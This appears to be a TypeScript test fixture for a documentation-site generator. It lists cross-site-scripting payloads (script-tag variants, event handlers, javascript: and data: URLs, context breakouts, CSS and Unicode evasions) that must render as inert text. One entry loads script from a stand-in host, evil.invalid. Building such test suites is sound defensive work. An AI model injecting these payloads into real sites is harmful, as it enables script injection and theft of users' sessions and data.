/** Runs as the payload says when it runs at all: `hit` is a function that pages under test have. */
const RUN = 'hit(1)'

const EVENTS = ['onload', 'onerror', 'onclick', 'onfocus', 'onmouseover', 'onanimationstart', 'ontoggle', 'onbeforetoggle', 'onpageshow']

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `<script/x>${RUN}</script>`,
  `<script\t>${RUN}</script\n>`,
  `<script type=module>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script src=//evil.invalid/x.js></script>`,
  `<script><!--\n${RUN}//--></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script>/*</script><script>${RUN}/*`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<math><mtext></p><script>${RUN}</script>`,
]

const HANDLERS = EVENTS.flatMap((event) => [
  `<img src=x ${event}=${RUN}>`,
  `<svg ${event}=${RUN}>`,
  `<body ${event}=${RUN}>`,
  `<details open ${event}=${RUN}>`,
])

const MORE_HANDLERS = [
  `<img src=x: onerror="${RUN}"`,
  `<img/src=x/onerror=${RUN}//`,
  `<img src=x onerror=&#104;it(1)>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.${RUN}</script>">`,
  `<embed src="data:text/html,<script>parent.${RUN}</script>">`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${RUN} /></svg>`,
  `<math><maction actiontype="statusline#" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<link rel=stylesheet href="data:text/css,*{}" onload=${RUN}>`,
  `<style onload=${RUN}></style>`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<base href="javascript:/${RUN}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<form action=javascript:${RUN}><input type=submit autofocus></form>`,
  `<isindex action=javascript:${RUN} type=image>`,
]

const SCHEMES = [
  'javascript',
  'JaVaScRiPt',
  'java\tscript',
  'java\nscript',
  '\u0001javascript',
  'javascript\u0009',
  'vbscript',
  'livescript',
]

const URLS = [
  ...SCHEMES.flatMap((scheme) => [`${scheme}:${RUN}`, `<a href="${scheme}:${RUN}">x</a>`]),
  `&#106;avascript:${RUN}`,
  `java&Tab;script:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript://%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `blob:null/x`,
  `//evil.invalid/%2e%2e`,
  `\\\\evil.invalid\\x`,
]

const BREAKS = [
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `" onmouseover=${RUN} x="`,
  `' onmouseover=${RUN} x='`,
  '` onmouseover=' + RUN + ' x=`',
  `" autofocus onfocus=${RUN} x="`,
  `></title><script>${RUN}</script>`,
  `</title><svg onload=${RUN}>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</noscript><script>${RUN}</script>`,
  `</template><script>${RUN}</script>`,
  `</iframe><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `--!><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<!--<script>${RUN}`,
  `<![CDATA[<script>${RUN}</script>`,
  `<?xml><script>${RUN}</script>`,
  `</main></body><script>${RUN}</script>`,
  `</docsite-island><script>${RUN}</script>`,
  `</docsite-slot><img src=x onerror=${RUN}>`,
  `<template><script>${RUN}</script></template>`,
  `\u2028${RUN}\u2029`,
  `";${RUN};//`,
  `';${RUN};//`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{${RUN}}`,
  `\\";${RUN}//`,
  `\\u003cscript\\u003e${RUN}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
]

const CSS = [
  `x:expression(${RUN})`,
  `background:url(javascript:${RUN})`,
  `}</style><script>${RUN}</script>`,
  `red;}body{background:url("javascript:${RUN}")}`,
  `<div style="animation-name:x" onanimationstart=${RUN}>`,
  `-moz-binding:url(data:text/xml,x)`,
]

const UNICODE = [
  `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`,
  `\uFEFF<script>${RUN}</script>`,
  `\u202E<script>${RUN}</script>`,
  `<\u200Bscript>${RUN}</script>`,
  `\u{1F600}<script>${RUN}</script>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `<scr\u0131pt>${RUN}</scr\u0131pt>`,
  `<\u017Fcript>${RUN}</\u017Fcript>`,
  `<img src=x onerror\u00A0=${RUN}>`,
  `<img src=x onerror\u000C=${RUN}>`,
]

const WORDS = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'currentScript',
  'location',
  'main',
  'body',
  'head',
  '%s%n$1$&',
  '${x}',
]

/** Texts that must stay text wherever a site shows one. They call `hit` when they run. */
export const sinkPayloads: readonly string[] = [...SCRIPTS, ...HANDLERS, ...MORE_HANDLERS, ...URLS, ...BREAKS, ...CSS, ...UNICODE, ...WORDS]

/** Text as Markdown that shows it: what has a meaning is escaped, and a line stays one line. */
export function asMarkdown(text: string): string {
  return text
    .replaceAll(/\s/g, ' ')
    .replaceAll(/[!-/:-@[-`{-~]/g, '\\$&')
    .trim()
}
